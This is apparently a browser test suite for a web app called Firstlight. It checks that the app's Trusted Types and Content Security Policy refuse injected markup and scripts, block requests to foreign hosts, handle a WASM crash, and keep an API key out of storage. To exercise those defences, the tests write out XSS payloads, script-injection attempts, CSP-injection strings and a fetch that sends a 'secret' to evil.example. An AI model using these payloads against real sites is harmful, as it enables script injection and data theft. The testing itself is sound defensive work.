// What the page refuses, how it says so, and what is left when it crashes.

import assert from "node:assert/strict";

import { readSampleDay, sampleDayInWords, storedText } from "./days.mjs";
import { test } from "./harness.mjs";
import { Digest, FirstVisit, Frame, Settings, Stopped } from "./pages.mjs";

const refusals = /Content Security Policy|TrustedHTML|TrustedScript|TrustedTypePolicy|Firstlight refused|Refused to/;

test("markup that could act is refused, inert markup is not", {}, async (app) => {
  app.allow(refusals);
  const visit = new FirstVisit(app.page);
  await visit.open();
  const outcome = (markups) =>
    app.page.evaluate((markups) => {
      const element = document.createElement("div");
      return markups.filter((markup) => {
        try {
          element.innerHTML = markup;
          return true;
        } catch {
          return false;
        }
      });
    }, markups);
  const hostile = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '<p onclick="x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x73;cript:alert(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="https://evil.example@x">x</a>',
    "<svg><script>1</script></svg>",
    "<p><!-- x --></p>",
    "<![CDATA[x]]>",
    '<p title="<b>">',
    "<math></math>",
    "<iframe></iframe>",
    '<p style="color:red">',
    "<p a='b'>",
    "<p",
    '<textarea><p title="</textarea><img>"></textarea>',
    '<meta http-equiv="x">',
    '<base href="/">',
    '<link rel="x">',
    '<form action="/x">',
    "<template><p></p></template>",
  ];
  assert.deepEqual(await outcome(hostile), [], "let through");
  const inert = [
    '<p class="a">x &amp; y<!></p>',
    "<div><b>x</b><!----></div>",
    '<a href="/about" class="x">y</a>',
    '<svg viewBox="0 0 1 1"><path d="M1 1"></path></svg>',
    "text",
    '<a href="https://arxiv.org/abs/1?x=1&amp;y">x</a>',
    '<input type="text" disabled>',
    "<br>",
    '<tr><td colspan="2">x</td></tr>',
    '<a href="#stored">x</a>',
    '<a href="mailto:a@b.c">x</a>',
  ];
  assert.deepEqual(await outcome(inert), inert);
  const directives = new Set((await app.violations(hostile.length)).map(({ directive }) => directive));
  assert.deepEqual([...directives], ["require-trusted-types-for"]);
  await visit.alert.getByText("refused markup").first().waitFor();
  assert.ok((await visit.alert.getByText("refused").count()) <= 5, "the strip does not grow without end");
  await app.pictures("refused");
  await app.assertAccessible();
});

test("no text becomes a script", {}, async (app) => {
  app.allow(refusals);
  const visit = new FirstVisit(app.page);
  await visit.open();
  // In a task of its own, for what the protocol evaluates may evaluate.
  const inATask = (work) => new Promise((resolve) => setTimeout(() => resolve(work())));
  const ways = await app.page.evaluate(`(${inATask})(${() => {
    const script = () => document.head.appendChild(document.createElement("script"));
    const tries = {
      eval: () => eval("window.ran = 1"),
      function: () => new Function("window.ran = 1")(),
      timeout: () => setTimeout("window.ran = 1"),
      inline: () => (script().text = "window.ran = 1"),
      source: () => (script().src = "https://evil.example/x.js"),
      worker: () => new Worker("x.js"),
      handler: () => document.body.setAttribute("onclick", "window.ran = 1"),
      policy: () => trustedTypes.createPolicy("other", {}),
      frame: () => (document.createElement("iframe").srcdoc = "<script>parent.ran = 1</script>"),
    };
    return Object.entries(tries).filter(([, attempt]) => {
      try {
        attempt();
        return true;
      } catch {
        return false;
      }
    });
  }})`);
  assert.deepEqual(ways, [], "let through");
  await app.violations(9);
  assert.equal(await app.page.evaluate(() => window.ran), undefined);
  await visit.alert.getByText("refused a script").first().waitFor();
});

test("the page reaches nobody but this site and who was set up", {}, async (app) => {
  app.allow(/Content Security Policy|Firstlight refused|Fetch API cannot load|Refused to|net::ERR/);
  app.allow(/asked a foreign host: https:..(evil|api).example/);
  const visit = new FirstVisit(app.page);
  await visit.open();
  const reach = (address) =>
    app.page.evaluate((address) => fetch(address).then(() => "reached", (error) => error.name), address);
  assert.equal(await reach("https://evil.example/?key=secret"), "TypeError");
  assert.equal(await reach(`${app.servers.model}/models`), "TypeError", "not even on this machine");
  assert.equal(await reach("/config.json"), "reached");
  assert.deepEqual((await app.violations(2)).map(({ directive }) => directive), ["connect-src", "connect-src"]);
  await visit.alert.getByText("refused a request").first().waitFor();

  const sneaky = ["https://a;b.example", "https://x.example 'unsafe-inline'", "http://evil.example", 3, "https://x.example/path"];
  await app.page.evaluate((list) => localStorage.setItem("firstlight.origins", JSON.stringify(list)), [
    "https://api.example.org",
    ...sneaky,
    "http://localhost:9999",
  ]);
  await app.page.reload();
  await visit.ready();
  const policies = await app.page.evaluate(() => [...document.querySelectorAll("meta[http-equiv]")].map((one) => one.content));
  assert.equal(policies.at(-1), "connect-src 'self' https://api.example.org http://localhost:9999");
});

test("a crash of the WASM shows a screen with a report, and days are safe", {}, async (app) => {
  app.allow(/uncaught: .*RuntimeError|console: .*(RuntimeError|panicked|recursive|unreachable)/s);
  const { count } = await readSampleDay(app);
  const secret = "sk-secret-0123456789";
  // The app itself reads this event; what it carries is thrown from inside the WASM's own call stack or not at all:
  // an engine's RuntimeError is what the listeners of boot.js see when a panic aborts.
  await app.page.evaluate(() => {
    const bytes = Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 120, 0, 0, 10, 5, 1, 3, 0, 0, 11);
    WebAssembly.instantiate(bytes).then(({ instance }) => setTimeout(instance.exports.x));
  });
  const stopped = new Stopped(app.page);
  await stopped.report.waitFor();
  assert.equal(await stopped.heading.innerText(), "Firstlight stopped");
  await stopped.says("Days that were stored are safe in this browser.");
  const report = await stopped.report.inputValue();
  assert.match(report, /^Firstlight \d+\.\d+\.\d+ stopped on .*\nwhat: unreachable\nwhere: WASM\npage: \/\nbrowser: /);
  assert.ok(!report.includes(secret));
  assert.equal(await app.page.evaluate(() => document.activeElement.tagName), "H1");
  await app.pictures("stopped by a crash");
  await app.assertAccessible();

  await Promise.all([app.page.waitForEvent("load"), stopped.reload.click()]);
  const digest = new Digest(app.page);
  await digest.shows(count);
  await digest.says(sampleDayInWords);
});

test("a start that fails says so", {}, async (app) => {
  app.allow(/console: Failed to load resource|uncaught/);
  const frame = new Frame(app.page);
  const check = async (pattern, fulfil, sentence) => {
    await app.page.route(pattern, fulfil);
    await app.page.goto("/");
    await app.page.getByText(sentence).waitFor();
    await app.page.unroute(pattern);
  };
  const wasm = "**/*_bg*.wasm";
  await check(wasm, (route) => route.fulfill({ status: 404, body: "no" }), "Firstlight did not arrive");
  const damaged = { status: 200, contentType: "application/wasm", body: "no" };
  await check(wasm, (route) => route.fulfill(damaged), "Firstlight may not start here");
  await check("**/ahead-*.js", (route) => route.abort(), "Firstlight did not arrive");
  await check("**/boot-*.js", (route) => route.abort(), "The page could not start");
  await app.page.goto("/");
  await frame.ready();
});

test("the key goes to its provider alone and is kept nowhere", {}, async (app) => {
  const key = "sk-secret-0123456789abcdef";
  const provider = "https://api.x.ai";
  app.allow(/asked a foreign host: https:..api\.x\.ai/);
  // The headers of a request come later than the request.
  const looking = [];
  const look = async (request) => {
    const text = JSON.stringify([request.url(), await request.allHeaders(), request.postData()]);
    return text.includes(key) ? [new URL(request.url()).origin] : [];
  };
  const note = (request) => void looking.push(look(request));
  app.context.on("request", note);
  // The provider's other end is the stand-in's.
  await app.context.route(`${provider}/**`, async (route) => {
    const request = route.request();
    const answer = await fetch(request.url().replace(`${provider}/v1`, app.servers.model), {
      method: request.method(),
      headers: { "content-type": "application/json", authorization: request.headers().authorization },
      body: request.postData(),
    });
    const headers = { "access-control-allow-origin": "*", "content-type": answer.headers.get("content-type") };
    await route.fulfill({ status: answer.status, headers, body: await answer.text() });
  });

  const settings = new Settings(app.page);
  await settings.open();
  await settings.choose("xAI", "gpt-4o");
  await settings.key.waitFor();
  const field = (name) => settings.key.getAttribute(name);
  assert.deepEqual([await field("type"), await field("autocomplete")], ["password", "current-password"]);
  await app.pictures("settings with key");
  await app.assertAccessible();
  await settings.key.fill(key);
  await settings.withKey.click();

  const digest = new Digest(app.page);
  await digest.read();
  assert.ok((await digest.papers.count()) > 0);
  const { arxiv, model } = await app.servers.asked();
  assert.ok(model.every(({ headers }) => headers.authorization === `Bearer ${key}`));
  assert.ok(model.every(({ body }) => !JSON.stringify(body).includes(key)));
  assert.ok(!JSON.stringify(arxiv).includes(key));
  app.context.off("request", note);
  const keyed = (await Promise.all(looking)).flat();
  assert.deepEqual([...new Set(keyed)], [provider]);
  assert.ok(!(await storedText(app.page)).includes(key));
  assert.ok(!(await app.page.content()).includes(key));
  for (const form of ["Markdown", "JSON"]) assert.ok(!(await digest.download(form)).text.includes(key));

  await app.servers.arxivIs({ mood: "feeds" });
  await app.page.reload();
  await digest.goTo("Settings");
  await settings.key.waitFor();
  assert.equal(await settings.key.inputValue(), "", "a reload forgets the key");
});
